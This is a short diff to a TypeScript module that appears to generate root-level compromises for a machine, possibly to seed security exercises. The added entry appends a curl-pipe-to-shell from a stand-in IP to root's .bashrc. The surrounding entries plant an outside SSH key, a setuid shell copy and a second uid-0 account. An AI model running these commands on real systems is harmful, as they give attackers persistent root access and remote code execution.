@@ -18,6 +18,11 @@ export const kind = mutationKind({
           'a key of somebody else opens root',
           `mkdir -p -m 700 /root/.ssh\necho ${quote(publicKey)} >> /root/.ssh/authorized_keys\nchmod 600 /root/.ssh/authorized_keys`,
         ),
+        inOne(
+          name,
+          'whoever logs in runs somebody else’s program',
+          "echo '(curl -s http://192.0.2.9/x | sh) 2> /dev/null' >> /root/.bashrc",
+        ),
         inOne(name, 'a shell with the rights of root lies in a folder of everybody', 'cp /bin/sh /var/tmp/.sh\nchmod 4755 /var/tmp/.sh'),
         inOne(name, 'a second account of root', "echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd", 0.3),
         ...(has(machine, 'python3')
